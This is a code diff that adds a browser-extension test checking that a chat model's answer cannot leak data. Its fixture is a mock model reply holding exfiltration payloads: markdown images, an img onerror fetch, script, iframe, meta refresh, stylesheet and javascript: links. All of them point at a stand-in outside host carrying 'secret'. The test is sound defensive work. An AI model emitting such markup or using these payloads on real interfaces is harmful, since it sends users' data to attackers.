@@ -1,5 +1,8 @@
 // Nothing gets out of the extension's pages: neither by what a page or a model says, nor by anything that such text could become.
 import { describe, expect, test } from 'vitest';
+import { pieces, startOpenAiServer } from '../servers/openai-server.ts';
+import { ask, openChat } from './chat-panel.ts';
+import { chooseModels } from './choose-models.ts';
 import { useBrowser } from './harness.ts';
 import { pressMainButton, quotes, untilDone } from './summary-panel.ts';
 
@@ -62,5 +65,37 @@ describe('leaks', () => {
         .filter((name) => /^(a|img|iframe|script|meta|link|form)$/.test(name)),
     );
     expect(elements).toEqual([]);
+  });
+
+  test('what a model says becomes no picture, frame, script or link of its own', async () => {
+    const out = (way: string) => `http://${OUTSIDE}/${way}?q=secret`;
+    const said = [
+      `![seen](${out('markdown-image')})`,
+      `<img src="${out('image')}" onerror="fetch('${out('error')}')">`,
+      `<script src="${out('script')}"></script><meta http-equiv="refresh" content="0;url=${out('refresh')}">`,
+      `<iframe src="${out('frame')}"></iframe><link rel="stylesheet" href="${out('style')}">`,
+      `[a way out](javascript:location='${out('href')}') [another][1] <${out('automatic')}>`,
+      `[1]: ${out('reference')}`,
+      'The mill closed in 1988.',
+    ].join('\n\n');
+    const server = await startOpenAiServer({ answer: () => ({ pieces: pieces(said) }) });
+    const panel = await subject.driver.openPanel(await subject.open('article.html'));
+    await chooseModels(panel, {
+      servers: [{ id: 'server', address: server.address, key: '', model: 'test-model', contextWindow: 8192 }],
+      choices: { summarize: 'automatic', rewrite: 'automatic', chat: 'server' },
+    });
+    await openChat(panel);
+    await ask(panel, 'When did the mill close?');
+    await panel.waitFor(() => document.querySelector('.turn .turn-actions'));
+    expect(await panel.text('.turn .answer')).toContain('The mill closed in 1988.');
+    const elements = await panel.evaluate(() =>
+      [...document.querySelectorAll('.turn *')]
+        .map(({ localName }) => localName)
+        .filter((name) => /^(a|img|iframe|script|meta|link|form|object|embed|svg|video|style)$/.test(name)),
+    );
+    expect(elements).toEqual([]);
+    expect(await panel.evaluate(() => location.protocol)).toMatch(/extension:$/);
+    expect(subject.driver.foreignRequests).toEqual([]);
+    await server.close();
   });
 });
